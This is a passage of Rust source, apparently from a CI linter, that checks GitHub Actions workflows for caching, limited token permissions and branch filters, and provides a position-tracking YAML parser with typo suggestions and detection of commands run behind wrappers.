            "no job uses a matrix: add `strategy:` with `matrix:` (e.g. `python-version: [\"3.12\", \"3.13\"]`) and use `${{ matrix.python-version }}`",
        );
    }
    if req.cache {
        let cached = steps.iter().any(|s| {
            let uses = s
                .get("uses")
                .and_then(Node::str)
                .unwrap_or_default()
                .to_ascii_lowercase();
            let with = s.get("with");
            let input = |key: &str| {
                with.and_then(|w| w.get(key))
                    .and_then(|v| v.text(cx.text))
                    .is_some_and(|t| !t.trim().is_empty() && t != "false")
            };
            uses.starts_with("actions/cache") || input("cache") || input("enable-cache")
        });
        if !cached {
            cx.error(
                "require-cache",
                jobs_at,
                "dependencies are downloaded from scratch on every run: cache them, e.g. `cache: pip` under `with:` of `actions/setup-python`, or an `actions/cache` step",
            );
        }
    }
    if req.permissions {
        let top = root.get("permissions");
        let ok = match top {
            Some(p) => p.str() != Some("write-all"),
            None => {
                !jobs.is_empty()
                    && jobs.iter().all(|j| {
                        j.body
                            .get("permissions")
                            .is_some_and(|p| p.str() != Some("write-all"))
                    })
            }
        };
        if !ok {
            let at = top.map_or(jobs_at, Node::at);
            cx.error(
                "require-permissions",
                at,
                "the job token's permissions are not limited: add `permissions:` with `contents: read` at the top of the workflow, so a compromised step cannot push code or change the repository",
            );
        }
    }
}

/// Whether a push or pull request on `branch` passes the trigger's branch filters.
fn branch_triggers(config: Option<&Node>, branch: &str, text: &str) -> bool {
    let Some(config) = config else { return true };
    if config.map().is_none() {
        return true;
    }
    if let Some(patterns) = config.get("branches") {
        let mut matched = false;
        for (p, _) in string_list(patterns, text) {
            match p.strip_prefix('!') {
                Some(negated) if glob_match(negated, branch) => matched = false,
                Some(_) => {}
                None if glob_match(&p, branch) => matched = true,
                None => {}
            }
        }
        return matched;
    }
    if let Some(ignored) = config.get("branches-ignore") {
        return !string_list(ignored, text)
            .iter()
            .any(|(p, _)| glob_match(p, branch));
    }
    // Only tag filters: branch pushes do not trigger.
    config.get("tags").is_none() && config.get("tags-ignore").is_none()
}

/// GitHub's filter patterns: `*` within a path segment, `**` across, `?` one character.
pub(crate) fn glob_match(pattern: &str, name: &str) -> bool {
    let mut re = String::from("^");
    let mut chars = pattern.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '*' if chars.peek() == Some(&'*') => {
                chars.next();
                re.push_str(".*");
            }
            '*' => re.push_str("[^/]*"),
            '?' => re.push('.'),
            _ => re.push_str(&regex::escape(&c.to_string())),
        }
    }
    re.push('$');
    Regex::new(&re).is_ok_and(|r| r.is_match(name))
}

/// Whether job `from` waits for job `target`, directly or through other jobs.
fn needs_transitively(jobs: &[Job<'_>], from: &str, target: &str, text: &str) -> bool {
    let graph: BTreeMap<&str, Vec<String>> = jobs
        .iter()
        .map(|j| {
            (
                j.id.as_str(),
                j.body
                    .get("needs")
                    .map(|n| string_list(n, text).into_iter().map(|(s, _)| s).collect())
                    .unwrap_or_default(),
            )
        })
        .collect();
    let mut stack = vec![from.to_string()];
    let mut seen = BTreeSet::new();
    while let Some(id) = stack.pop() {
        if !seen.insert(id.clone()) {
            continue;
        }
        for need in graph.get(id.as_str()).into_iter().flatten() {
            if need == target {
                return true;
            }
            stack.push(need.clone());
        }
    }
    false
}

/// A scalar or a list of scalars, as text with the node each came from.
fn string_list<'a>(node: &'a Node, text: &str) -> Vec<(String, &'a Node)> {
    match &node.value {
        Value::Seq(items) => items
            .iter()
            .filter_map(|i| Some((i.text(text)?, i)))
            .collect(),
        _ => node.text(text).map(|t| vec![(t, node)]).unwrap_or_default(),
    }
}

/// A key of `map` that looks like a misspelling of `wanted`.
fn near_key(map: &Node, text: &str, wanted: &str) -> Option<String> {
    map.map()?
        .iter()
        .filter_map(|(k, _)| k.text(text))
        .find(|k| k != wanted && yaml::closest(k, &[wanted]).is_some())
}

/// `job `a``, `jobs `a` and `b``.
fn list_names(names: &[&str], noun: &str) -> String {
    let quoted: Vec<String> = names.iter().map(|n| format!("`{n}`")).collect();
    match quoted.as_slice() {
        [one] => format!("the {noun} {one}"),
        [init @ .., last] => format!("the {noun}s {} and {last}", init.join(", ")),
        [] => format!("any {noun}"),
    }
}

/// A YAML tree that keeps where every node is, shared with the `gitlab-ci` checker.
///
/// Parsed with YAML 1.2 booleans (`strict_booleans`), so `on`, `yes` and `off` stay
/// strings: the key `on:` of a workflow is the string "on", as GitHub reads it.
pub(crate) mod yaml {
    use std::fmt;

    use serde::de::{Deserialize, Deserializer, MapAccess, SeqAccess, Visitor};
    use serde_saphyr::{MessageFormatter, Spanned, UserMessageFormatter};

    use crate::check::position;

    /// A YAML value; mapping keys keep their order and position.
    #[derive(Debug, Clone, PartialEq)]
    pub(crate) enum Value {
        Null,
        Bool(bool),
        Int(i64),
        Float(f64),
        Str(String),
        Seq(Vec<Node>),
        Map(Vec<(Node, Node)>),
    }

    /// A value with the 1-based line and column where it is used, and the byte range
    /// of the text that defines it (for an alias: the anchored original).
    #[derive(Debug, Clone, PartialEq)]
    pub(crate) struct Node {
        pub value: Value,
        pub line: usize,
        pub column: usize,
        pub span: Option<(usize, usize)>,
    }

    /// A parse error, located.
    #[derive(Debug, Clone, PartialEq, Eq)]
    pub(crate) struct SyntaxError {
        pub line: usize,
        pub column: usize,
        pub message: String,
    }

    impl SyntaxError {
        /// The parser's message with a plain explanation around it.
        pub(crate) fn explain(&self) -> String {
            let m = &self.message;
            if m.contains("multiple") {
                return format!(
                    "the file holds several YAML documents (a `---` line starts a new one) but only one is expected: remove the extra `---` ({m})"
                );
            }
            if m.contains("duplicate") {
                return format!(
                    "{m}: a key may appear only once in the same mapping; merge the two entries into one"
                );
            }
            if m.contains("tabs disallowed") {
                return format!(
                    "YAML indentation must use spaces, not tabs: replace the tab on this line with spaces ({m})"
                );
            }
            if m.contains("Depth") || m.contains("recursion limit") {
                return format!(
                    "the YAML is nested more than {MAX_DEPTH} levels deep, far more than a pipeline needs: check the indentation of the lines around here ({m})"
                );
            }
            if m.contains("too large or too complex") {
                return format!(
                    "{m}: the file is too large or too repetitive to be a pipeline definition"
                );
            }
            format!(
                "this is not valid YAML ({m}); check that indentation uses spaces, that nested keys line up, and that every quote and bracket is closed"
            )
        }
    }

    /// Deepest nesting accepted. Pipelines need well under 10 levels; each level costs
    /// stack in the deserializer, so a low cap keeps a hostile file from overflowing the
    /// stack of a small thread.
    pub(crate) const MAX_DEPTH: usize = 20;

    fn options() -> serde_saphyr::Options {
        serde_saphyr::options! {
            budget: serde_saphyr::budget! { max_depth: MAX_DEPTH },
            strict_booleans: true,
            non_finite_float_policy: serde_saphyr::options::NonFiniteFloatPolicy::AsString,
            with_snippet: false,
        }
    }

    fn syntax_error(e: &serde_saphyr::Error) -> SyntaxError {
        let (line, column) = e
            .location()
            .map_or((0, 0), |l| (to_usize(l.line()), to_usize(l.column())));
        let message = UserMessageFormatter
            .format_message(e.without_snippet())
            .replace(['\n', '\r'], " ");
        SyntaxError {
            line,
            column,
            message,
        }
    }

    fn to_usize(n: u64) -> usize {
        usize::try_from(n).unwrap_or(usize::MAX)
    }

    /// Parses one YAML document. An empty file (or only comments) is `Value::Null`.
    pub(crate) fn parse(text: &str) -> Result<Node, SyntaxError> {
        serde_saphyr::from_str_with_options::<Node>(text, options()).map_err(|e| syntax_error(&e))
    }

    /// Parses every document of a stream (separated by `---`).
    pub(crate) fn parse_documents(text: &str) -> Result<Vec<Node>, SyntaxError> {
        serde_saphyr::from_str_multiple_with_options::<Node, Vec<Node>>(text, options())
            .map_err(|e| syntax_error(&e))
    }

    impl<'de> Deserialize<'de> for Node {
        fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
            let s = Spanned::<Value>::deserialize(d)?;
            let defined = s.defined.span();
            let span = match (defined.byte_offset(), defined.byte_len()) {
                (Some(o), Some(l)) => Some((to_usize(o), to_usize(l))),
                _ => None,
            };
            Ok(Node {
                value: s.value,
                line: to_usize(s.referenced.line()),
                column: to_usize(s.referenced.column()),
                span,
            })
        }
    }

    impl<'de> Deserialize<'de> for Value {
        fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
            d.deserialize_any(ValueVisitor)
        }
    }

    struct ValueVisitor;

    impl<'de> Visitor<'de> for ValueVisitor {
        type Value = Value;

        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("any YAML value")
        }
        fn visit_unit<E>(self) -> Result<Value, E> {
            Ok(Value::Null)
        }
        fn visit_none<E>(self) -> Result<Value, E> {
            Ok(Value::Null)
        }
        fn visit_some<D: Deserializer<'de>>(self, d: D) -> Result<Value, D::Error> {
            d.deserialize_any(ValueVisitor)
        }
        fn visit_bool<E>(self, b: bool) -> Result<Value, E> {
            Ok(Value::Bool(b))
        }
        fn visit_i64<E>(self, n: i64) -> Result<Value, E> {
            Ok(Value::Int(n))
        }
        fn visit_u64<E>(self, n: u64) -> Result<Value, E> {
            Ok(i64::try_from(n).map_or(Value::Float(n as f64), Value::Int))
        }
        fn visit_i128<E>(self, n: i128) -> Result<Value, E> {
            Ok(i64::try_from(n).map_or(Value::Float(n as f64), Value::Int))
        }
        fn visit_u128<E>(self, n: u128) -> Result<Value, E> {
            Ok(i64::try_from(n).map_or(Value::Float(n as f64), Value::Int))
        }
        fn visit_f64<E>(self, n: f64) -> Result<Value, E> {
            Ok(Value::Float(n))
        }
        fn visit_str<E>(self, s: &str) -> Result<Value, E> {
            Ok(Value::Str(s.to_string()))
        }
        fn visit_string<E>(self, s: String) -> Result<Value, E> {
            Ok(Value::Str(s))
        }
        fn visit_bytes<E>(self, b: &[u8]) -> Result<Value, E> {
            Ok(Value::Str(String::from_utf8_lossy(b).into_owned()))
        }
        fn visit_seq<A: SeqAccess<'de>>(self, mut a: A) -> Result<Value, A::Error> {
            let mut items = Vec::new();
            while let Some(n) = a.next_element::<Node>()? {
                items.push(n);
            }
            Ok(Value::Seq(items))
        }
        fn visit_map<A: MapAccess<'de>>(self, mut a: A) -> Result<Value, A::Error> {
            let mut entries = Vec::new();
            while let Some(k) = a.next_key::<Node>()? {
                let v = a.next_value::<Node>()?;
                entries.push((k, v));
            }
            Ok(Value::Map(entries))
        }
    }

    impl Node {
        /// (line, column) for a diagnostic.
        pub(crate) fn at(&self) -> (usize, usize) {
            (self.line, self.column)
        }

        pub(crate) fn map(&self) -> Option<&[(Node, Node)]> {
            match &self.value {
                Value::Map(entries) => Some(entries),
                _ => None,
            }
        }

        pub(crate) fn seq(&self) -> Option<&[Node]> {
            match &self.value {
                Value::Seq(items) => Some(items),
                _ => None,
            }
        }

        pub(crate) fn str(&self) -> Option<&str> {
            match &self.value {
                Value::Str(s) => Some(s),
                _ => None,
            }
        }

        /// The key node and value of `key` in a mapping.
        pub(crate) fn entry(&self, key: &str) -> Option<(&Node, &Node)> {
            self.map()?
                .iter()
                .find(|(k, _)| k.str() == Some(key))
                .map(|(k, v)| (k, v))
        }

        /// The value of `key` in a mapping.
        pub(crate) fn get(&self, key: &str) -> Option<&Node> {
            self.entry(key).map(|(_, v)| v)
        }

        /// The text this node defines, when it is a slice of `text`.
        pub(crate) fn raw<'a>(&self, text: &'a str) -> Option<&'a str> {
            let (o, l) = self.span?;
            text.get(o..o.checked_add(l)?)
        }

        /// A scalar as text: strings as they are, numbers as written.
        pub(crate) fn text(&self, text: &str) -> Option<String> {
            match &self.value {
                Value::Str(s) => Some(s.clone()),
                Value::Bool(b) => Some(b.to_string()),
                Value::Int(_) | Value::Float(_) => {
                    let raw = self
                        .raw(text)
                        .map(str::trim)
                        .filter(|r| !r.is_empty() && !r.starts_with('*'));
                    Some(raw.map_or_else(|| self.number_text(), str::to_string))
                }
                Value::Null | Value::Seq(_) | Value::Map(_) => None,
            }
        }

        fn number_text(&self) -> String {
            match self.value {
                Value::Int(n) => n.to_string(),
                Value::Float(f) => f.to_string(),
                _ => String::new(),
            }
        }

        /// For a float written like `3.10`: the text as written, which YAML shortens.
        pub(crate) fn float_losing_digits(&self, text: &str) -> Option<String> {
            let Value::Float(_) = self.value else {
                return None;
            };
            let raw = self.raw(text)?.trim();
            (raw.contains('.')
                && raw.ends_with('0')
                && raw.chars().all(|c| c.is_ascii_digit() || c == '.'))
            .then(|| raw.to_string())
        }

        /// For a string scalar: the text to scan for patterns and the byte offset where it
        /// starts in the file (the source as written, so positions are exact), or the
        /// value itself with no offset when the source is not available.
        pub(crate) fn scalar_source<'a>(&'a self, text: &'a str) -> (&'a str, Option<usize>) {
            let value = self.str().unwrap_or_default();
            match (self.raw(text), self.span) {
                (Some(raw), Some((o, _))) if !raw.is_empty() && !raw.starts_with('*') => {
                    (raw, Some(o))
                }
                _ => (value, None),
            }
        }

        /// (line, column) of byte `index` of what [`Node::scalar_source`] returned.
        pub(crate) fn pos_at(
            &self,
            text: &str,
            base: Option<usize>,
            index: usize,
        ) -> (usize, usize) {
            base.map_or((self.line, self.column), |b| {
                position(text, b.saturating_add(index))
            })
        }

        /// "a list", "the text `x`", … for messages about a wrong type.
        pub(crate) fn describe(&self) -> String {
            match &self.value {
                Value::Null => "nothing".to_string(),
                Value::Bool(b) => format!("the boolean `{b}`"),
                Value::Int(_) | Value::Float(_) => format!("the number `{}`", self.number_text()),
                Value::Str(s) => {
                    let short: String = s.chars().take(40).collect();
                    format!("the text `{}`", short.replace('\n', " "))
                }
                Value::Seq(_) => "a list".to_string(),
                Value::Map(_) => "a mapping".to_string(),
            }
        }
    }

    /// The candidate closest to `word` when it is a plausible misspelling of it.
    pub(crate) fn closest<'c>(word: &str, candidates: &[&'c str]) -> Option<&'c str> {
        let w = word.to_ascii_lowercase();
        if w.chars().count() > 40 {
            return None;
        }
        // Suggestions only: a thousand candidates are plenty, and bound the work.
        candidates
            .iter()
            .take(1000)
            .filter(|c| !c.eq_ignore_ascii_case(word))
            .map(|c| (edit_distance(&w, &c.to_ascii_lowercase()), *c))
            .filter(|(d, c)| {
                let len = c.chars().count();
                *d <= if len <= 4 { 1 } else { 2 }
            })
            .min_by_key(|(d, _)| *d)
            .map(|(_, c)| c)
    }

    /// Levenshtein distance (adjacent swaps count once).
    fn edit_distance(a: &str, b: &str) -> usize {
        let a: Vec<char> = a.chars().collect();
        let b: Vec<char> = b.chars().collect();
        let mut prev2: Vec<usize> = vec![0; b.len() + 1];
        let mut prev: Vec<usize> = (0..=b.len()).collect();
        for i in 1..=a.len() {
            let mut cur = vec![i; b.len() + 1];
            for j in 1..=b.len() {
                let cost = usize::from(a[i - 1] != b[j - 1]);
                cur[j] = (prev[j] + 1).min(cur[j - 1] + 1).min(prev[j - 1] + cost);
                if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                    cur[j] = cur[j].min(prev2[j - 2] + 1);
                }
            }
            prev2 = std::mem::replace(&mut prev, cur);
        }
        prev[b.len()]
    }

    /// Wrappers that run the command after them: `python -m pytest`, `uv run pytest`.
    const RUNNERS: &[&str] = &[
        "python -m ",
        "python3 -m ",
        "py -m ",
        "coverage run -m ",
        "uv run ",
        "poetry run ",
        "pipenv run ",
        "pdm run ",
        "hatch run ",
        "npx ",
        "pnpm exec ",
        "yarn ",
        "bundle exec ",
        "sudo ",
        "time ",
        "exec ",
    ];

    /// Whether a shell script runs `command` as a command, not as an argument: at the
    /// start of a line or after `&&`, `||`, `;` or `|`, possibly behind a runner.
    pub(crate) fn runs_command(script: &str, command: &str) -> bool {
        let command = command.trim();
        if command.is_empty() {
            return true;
        }
        script.lines().any(|line| {
            line.split(['&', '|', ';']).any(|segment| {
                let mut s = segment.trim_start().trim_start_matches('(').trim_start();
                // Leading variable assignments: `CI=1 pytest`.
                while let Some((word, rest)) = s.split_once(' ') {
                    if word.contains('=') && !word.starts_with('-') {
                        s = rest.trim_start();
                    } else {
                        break;
                    }
                }
                loop {
                    if starts_with_word(s, command) {
                        return true;
                    }
                    match RUNNERS.iter().find(|r| s.starts_with(**r)) {
                        Some(r) => s = s[r.len()..].trim_start(),
                        None => return false,
                    }
                }
            })
        })
    }

    fn starts_with_word(s: &str, word: &str) -> bool {
        s.strip_prefix(word)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with(char::is_whitespace))
    }
}
